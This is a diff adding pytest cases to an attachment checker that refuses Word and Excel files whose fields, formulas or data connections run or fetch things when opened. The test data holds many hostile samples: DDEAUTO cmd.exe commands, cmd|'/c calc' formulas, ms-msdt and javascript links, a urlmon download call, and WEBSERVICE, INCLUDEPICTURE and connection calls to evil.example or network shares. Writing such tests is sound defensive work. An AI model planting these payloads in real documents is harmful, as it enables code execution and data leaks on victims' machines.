@@ -22,8 +22,9 @@ from tests.attached import (
     relationships,
     repacked,
 )
+from tracker.obstacles.attachment_fields import RunsWhenOpened
 from tracker.obstacles.attachment_kinds import SPREADSHEET, WORDPROCESSING, check_kind
-from tracker.obstacles.attachment_packages import HoldsPrograms, NotThatKind
+from tracker.obstacles.attachment_packages import CHUNK, HoldsPrograms, NotThatKind
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
 RELS = "word/_rels/document.xml.rels"
@@ -394,6 +395,264 @@ RUNS = {
     ),
 }
 
+WORD_AT = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+STRICT_AT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
+SHEET_AT = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+COMPATIBILITY_AT = "http://schemas.openxmlformats.org/markup-compatibility/2006"
+BEGIN, SEPARATE, END = (
+    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
+)
+
+
+def run(text: str, name: str = "instrText") -> str:
+    return f'<w:r><w:{name} xml:space="preserve">{text}</w:{name}></w:r>'
+
+
+def field(*pieces: str, result: str = run("1", "t")) -> str:
+    """Return a field whose instruction is split over these runs; markup stays as it is."""
+    runs = "".join(piece if piece.startswith("<") else run(piece) for piece in pieces)
+    return f"{BEGIN}{runs}{SEPARATE}{result}{END}"
+
+
+def simple(instruction: str) -> str:
+    return f'<w:fldSimple w:instr="{instruction}">{run("1", "t")}</w:fldSimple>'
+
+
+def story(content: str, root: str = "document", at: str = WORD_AT) -> bytes:
+    return (
+        f'<w:{root} xmlns:w="{at}" xmlns:mc="{COMPATIBILITY_AT}" xmlns:x="urn:x">'
+        f"<w:body><w:p>{content}</w:p></w:body></w:{root}>"
+    ).encode()
+
+
+def written(content: str, at: str = WORD_AT) -> tuple[str, bytes]:
+    """Return a Word document of this content."""
+    return "a.docx", document(parts={"word/document.xml": story(content, at=at)})
+
+
+def with_part(part: str, root: str, content: str) -> tuple[str, bytes]:
+    """Return a Word document with another part, of this content."""
+    name = f"word/{part}1.xml"
+    return "a.docx", document(
+        {name: f"{DOCUMENT_XML}.{part}+xml"}, parts={name: story(content, root)}
+    )
+
+
+def book(name: str, content: str, kind: str = "worksheet") -> tuple[str, bytes]:
+    """Return an Excel workbook with another part, of this content."""
+    told = f'<Override PartName="/{name}" ContentType="{SPREADSHEET[:-6]}.{kind}+xml"/></Types>'
+    types = zipfile.ZipFile(io.BytesIO(XLSX)).read("[Content_Types].xml")
+    return "a.xlsx", repacked(
+        XLSX,
+        {
+            "[Content_Types].xml": types.replace(b"</Types>", told.encode()),
+            name: f'<a xmlns="{SHEET_AT}" xmlns:x="urn:x">{content}</a>'.encode(),
+        },
+    )
+
+
+def cell(formula: str) -> tuple[str, bytes]:
+    return book("xl/worksheets/sheet9.xml", f"<c><f>{formula}</f><v>1</v></c>")
+
+
+def connection(content: str) -> tuple[str, bytes]:
+    return book(
+        "xl/connections.xml", f'<connection id="1" name="a">{content}</connection>', "connections"
+    )
+
+
+DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
+ADDRESS = "INCLUDEPICTURE &quot;{}&quot; \\* MERGEFORMATINET \\d"
+TOC = field(
+    ' TOC \\o "1-3" \\h ', result=field(" HYPERLINK \\l _Toc1 ", result=field(" PAGEREF _Toc1 "))
+)
+
+GOOD_FIELDS = {
+    "contents, with links and pages": written(TOC),
+    "fields of ordinary letters": written(
+        "".join(
+            field(f" {one} ")
+            for one in (
+                "PAGE",
+                "NUMPAGES",
+                "DATE \\@ &quot;d MMMM yyyy&quot;",
+                "REF _Ref123 \\h",
+                "MERGEFIELD First_name \\* MERGEFORMAT",
+                "HYPERLINK &quot;https://example.org/metadata:1&quot;",
+                "HYPERLINK \\l &quot;LINK&quot;",
+                "SEQ Figure \\* ARABIC",
+                "QUOTE &quot;DDE&quot;",
+                "=LINK+1",
+                "FORMTEXT",
+                "LINKED",
+            )
+        )
+    ),
+    "fields in fields": written(
+        field(" IF ", field(" MERGEFIELD a "), ' = "1" "', run("DDE", "t"), '" "b" ')
+        + field(" =", field("PAGE"), "-1 ")
+        + field("IF", field("PAGE"), "=1 DDE")
+    ),
+    "simple fields": written(simple(" PAGE ") + simple(" STYLEREF &quot;Heading 1&quot; ")),
+    "text that is no field": written(run("DDEAUTO cmd", "t") + TOC + run("LINK", "t")),
+    "a picture of its writer's own machine": written(
+        field(ADDRESS.format("C:\\\\Users\\\\nora\\\\a.png"))
+        + field(ADDRESS.format("/var/folders/x/page1image5"))
+        + field(ADDRESS.format("media/a.png"))
+        + field(ADDRESS.format("cid:a@b"), result=field(ADDRESS.format("a.png")))
+    ),
+    "a text box with a field, written for two programs": written(
+        field(
+            " PAGE ",
+            result="<mc:AlternateContent>"
+            f"<mc:Choice><x:box><w:txbxContent>{field('PAGE')}</w:txbxContent></x:box></mc:Choice>"
+            f"<mc:Fallback><w:txbxContent>{field('PAGE')}</w:txbxContent></mc:Fallback>"
+            "</mc:AlternateContent>",
+        )
+    ),
+    "a footer of the strict edition": (
+        "a.docx",
+        document(
+            {"word/footer1.xml": f"{DOCUMENT_XML}.footer+xml"},
+            parts={"word/footer1.xml": story(field("PAGE"), "ftr", STRICT_AT)},
+        ),
+    ),
+    "a picture drawn by lines, with a document type": (
+        "a.docx",
+        document(
+            {}, {"svg": "image/svg+xml"}, {"word/media/a.svg": b"<!DOCTYPE svg><svg>DDE</svg>"}
+        ),
+    ),
+    "formulas": book(
+        "xl/worksheets/sheet9.xml",
+        "".join(
+            f"<c><f>{one}</f></c>"
+            for one in (
+                "SUM(A1:A9)",
+                'A1&amp;" | "&amp;"cmd|x!A0"',
+                "'yes | no'!A1+'it''s | so'!A1",
+                "Table1[yes | no]",
+                "[1]Sheet1!A1",
+                "RECALL(A1)",
+                'HYPERLINK("https://example.org/")',
+            )
+        )
+        + "<c t='s'><v>cmd|'/c calc'!A0</v></c>",
+    ),
+    "a connection to its own tables": connection(
+        '<dbPr connection="Data Model Connection" command="Model" commandType="1"/>'
+    ),
+    "a list brought in from a file": connection('<textPr sourceFile="C:\\nora\\a.csv"/>'),
+}
+
+RUNNING_FIELDS = {
+    "DDE": written(field(f" {DDE} ")),
+    "DDE, split over runs": written(field(" D", "DE", run("AU", "instrText"), "TO cmd x ")),
+    "DDE, in any case": written(field("\t ddeAuto cmd x")),
+    "DDE, after quotes": written(field(' " DDE" cmd x')),
+    "DDE, by itself": written(field("DDE")),
+    "DDE, with its command at once": written(field("DDE&quot;cmd&quot;")),
+    "DDE, without a result": written(f"{BEGIN}{run(DDE)}{END}"),
+    "DDE, without an end": written(f"{BEGIN}{run(DDE)}"),
+    "DDE, as ordinary text": written(field(run("DDE cmd", "t"))),
+    "DDE, in a deleted piece": written(field(run("DDE cmd", "delInstrText"))),
+    "DDE, over paragraphs": written(f"{BEGIN}{run('DD')}</w:p><w:p>{run('E a')}{SEPARATE}{END}"),
+    "DDE, in a field": written(field(" IF ", field(DDE), " = 1 ")),
+    "DDE, in the result of a field": written(field(" PAGE ", result=field(DDE))),
+    "DDE, around a field": written(field(" DDE ", field(" QUOTE 99 109 100 "), " x ")),
+    "DDE, made by a field": written(field(field(" QUOTE 68 68 69 "), " cmd x ")),
+    "DDE, made in part by a field": written(field(" DD", simple("QUOTE E"), " cmd x ")),
+    "DDE, in a simple field": written(simple(DDE)),
+    "DDE, in the strict edition": written(field(DDE) + simple("PAGE"), STRICT_AT),
+    "DDE, in a text box": written(f"<x:box><w:txbxContent>{field(DDE)}</w:txbxContent></x:box>"),
+    "DDE, left open in a text box": written(f"<x:box>{BEGIN}{run(DDE)}</x:box>{field('PAGE')}"),
+    "DDE, in letters by number": written(field("&#68;&#x44;E cmd")),
+    "DDE, in UTF-16": (
+        "a.docx",
+        document(parts={"word/document.xml": story(field(DDE)).decode().encode("utf-16")}),
+    ),
+    "a simple field in a header": with_part("header", "hdr", simple(DDE)),
+    "a field in a header": with_part("header", "hdr", field(DDE)),
+    "a field in a footer": with_part("footer", "ftr", field(DDE)),
+    "a field in footnotes": with_part("footnotes", "footnotes", field(DDE)),
+    "a field in endnotes": with_part("endnotes", "endnotes", field(DDE)),
+    "a field in comments": with_part("comments", "comments", field(DDE)),
+    "a field in the glossary": with_part("document.glossary", "glossaryDocument", field(DDE)),
+    "a field in a part of another ending": (
+        "a.docx",
+        document(
+            {"word/header1.bin": f"{DOCUMENT_XML}.header+xml"},
+            parts={"word/header1.bin": story(field(DDE), "hdr")},
+        ),
+    ),
+    "a button for a macro": written(field(" MACROBUTTON AutoExec Click here ")),
+    "a linked object": written(field(' LINK Excel.Sheet.8 "C:\\a.xls" ')),
+    "a database": written(field(' DATABASE \\c "DSN=a" \\s "SELECT 1" ')),
+    "a text of the web": written(field(' INCLUDETEXT "https://evil.example/a.docx" ')),
+    "a text of this machine": written(field(' INCLUDETEXT "C:\\secret.docx" ')),
+    "a text, by its old name": written(field(" INCLUDE a.docx ")),
+    "a picture of the web": written(field(ADDRESS.format("https://evil.example/a.png"))),
+    "a picture of the web, in capitals": written(field(ADDRESS.format("HTTP://evil.example/a"))),
+    "a picture of the web, without quotes": written(field("INCLUDEPICTURE \\d ftp://evil/a")),
+    "a picture by a file's address": written(field(ADDRESS.format("file://evil.example/a.png"))),
+    "a picture on a share": written(field(ADDRESS.format("\\\\\\\\evil\\\\a.png"))),
+    "a picture on a share, with plain bars": written(field("IMPORT \\\\evil\\a.png")),
+    "a picture on a share, otherwise": written(field(ADDRESS.format("//evil.example/a.png"))),
+    "a picture whose address a field makes": written(
+        field(' INCLUDEPICTURE "', field("QUOTE a"), '"')
+    ),
+    "an index of a document of the web": written(field(" RD https://evil.example/a.docx ")),
+    "a link that runs": written(field(' HYPERLINK "ms-msdt:/id PCWDiagnostic" ')),
+    "a script in a link": written(simple("HYPERLINK javascript:alert(1)")),
+    "a formula that runs": cell("cmd|'/c calc'!A0"),
+    "a formula that runs, within another": cell("1+IF(A1=\"'\",'cmd'|'/c calc'!A0,\"'\")"),
+    "a formula that runs, all in quotes": cell("'cmd|/c calc'!A0"),
+    "a formula that runs, split": cell("cmd<x:x/>|'/c calc'!A0"),
+    "a formula that asks the web": cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
+    "a formula that asks a program": cell('RTD("evil.server",,"a")'),
+    "a formula in letters of another code": (
+        "a.xlsx",
+        repacked(
+            XLSX,
+            {
+                "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="utf-16"?>'
+                "<a><f>RTD(A1,A2,A3)</f></a>".encode("utf-16")
+            },
+        ),
+    ),
+    "a formula in letters by number": cell("cmd&#124;'/c calc'!A0"),
+    "a formula that calls a library": cell('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
+    "a name that runs": book(
+        "xl/a.xml", "<definedName name='a'>cmd|'/c calc'!A0</definedName>", "sheet.main"
+    ),
+    "a condition that runs": book(
+        "xl/worksheets/sheet9.xml", "<cfRule><formula>cmd|'/c calc'!A0</formula></cfRule>"
+    ),
+    "a query of the web": connection('<webPr url="https://evil.example/"/>'),
+    "a database of Excel": connection('<dbPr connection="DRIVER=SQL Server;SERVER=evil"/>'),
+    "a query that gathers": connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/>'),
+    "a list from a share": connection('<textPr sourceFile="\\\\evil\\a.csv"/>'),
+    "a connection kept elsewhere": book(
+        "xl/connections.xml", '<connection odcFile="https://evil.example/a.odc"/>', "connections"
+    ),
+    "an embedded workbook that runs": (
+        "a.docx",
+        document(
+            {}, {"xlsx": SPREADSHEET}, {"word/embeddings/a.xlsx": cell("cmd|'/c calc'!A0")[1]}
+        ),
+    ),
+}
+
+TORN_FIELDS = {
+    "an end that Word passes over": f"{BEGIN}{run('DD')}<x:x>{END}</x:x>{run('E cmd')}{END}",
+    "an end in a text box": field("DD", f"<w:txbxContent>{END}</w:txbxContent>", "E cmd"),
+    "a piece that Word passes over": field("DD", f"<x:x>{run('x')}</x:x>", "E cmd"),
+    "a mark of no kind": field("DD", '<w:fldChar w:fldCharType="x"/>', "E cmd"),
+    "a mark of another edition": field(
+        "DD", f'<s:fldChar xmlns:s="{STRICT_AT}" s:fldCharType="end"/>', "E cmd"
+    ),
+}
+
 
 def twice(content: bytes, name: str, other: bytes) -> bytes:
     """Return a packed file with a second part of the same name."""
@@ -483,6 +742,23 @@ def test_what_runs_or_fetches_what_runs_is_refused(which: str) -> None:
         check(*RUNS[which])
 
 
+@pytest.mark.parametrize("which", GOOD_FIELDS)
+def test_fields_and_formulas_as_people_have_them_are_taken(which: str) -> None:
+    assert check(*GOOD_FIELDS[which])
+
+
+@pytest.mark.parametrize("which", RUNNING_FIELDS)
+def test_a_field_formula_or_connection_that_runs_or_fetches_is_refused(which: str) -> None:
+    with pytest.raises(RunsWhenOpened, match="a field, a formula or a data connection"):
+        check(*RUNNING_FIELDS[which])
+
+
+@pytest.mark.parametrize("which", TORN_FIELDS)
+def test_a_field_that_programs_would_end_in_two_places_is_refused(which: str) -> None:
+    with pytest.raises(NotThatKind, match="damaged"):
+        check(*written(TORN_FIELDS[which]))
+
+
 @pytest.mark.parametrize("which", BROKEN)
 def test_what_programs_would_read_in_two_ways_is_refused(which: str) -> None:
     with pytest.raises(NotThatKind, match="damaged"):
@@ -511,6 +787,20 @@ def test_a_part_twice_is_refused() -> None:
         check("a.docx", twice(DOCX, "word/document.xml", b"<a/>"))
 
 
+def test_a_long_workbook_is_taken() -> None:
+    row = "<row>" + "<c><f>A1*2</f><v>12</v></c>" * 10 + "</row>"
+
+    assert check(*book("xl/worksheets/sheet9.xml", row * 50_000))
+
+
+def test_a_formula_across_two_pieces_of_a_long_workbook_is_refused() -> None:
+    running = '<c><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>'
+    for shift in range(0, len(running) * 2, 5):
+        name, content = book("xl/worksheets/sheet9.xml", " " * (CHUNK - 200 + shift) + running)
+        with pytest.raises(RunsWhenOpened):
+            check(name, content)
+
+
 def test_a_list_that_claims_that_a_part_is_small_is_not_believed() -> None:
     long = repacked(DOCX, {"word/_rels/a.rels": b"<a/>" + b" " * 1_000_000})
     at = long.rfind(b"PK\x01\x02")
@@ -525,6 +815,14 @@ def test_a_list_that_claims_that_a_part_is_small_is_not_believed() -> None:
     [
         pytest.param("a.odt", lambda: open_text("<a/>" * 12_000_000), id="elements"),
         pytest.param("a.odt", lambda: open_text("<a>" * 12_000_000), id="depth"),
+        pytest.param(
+            "a.docx", lambda: written(f"{BEGIN}{run('a')}" * 400_000)[1], id="fields in fields"
+        ),
+        pytest.param(
+            "a.docx", lambda: written(field("DDE " + "&#97;" * 5_000_000))[1], id="letters"
+        ),
+        pytest.param("a.docx", lambda: written(field('"' * 25_000_000 + "DDE"))[1], id="quotes"),
+        pytest.param("a.xlsx", lambda: cell("'|" * 12_000_000)[1], id="formula"),
         pytest.param("a.odt", lambda: open_text(" " * 190_000_000), id="spaces"),
         pytest.param(
             "a.docx",
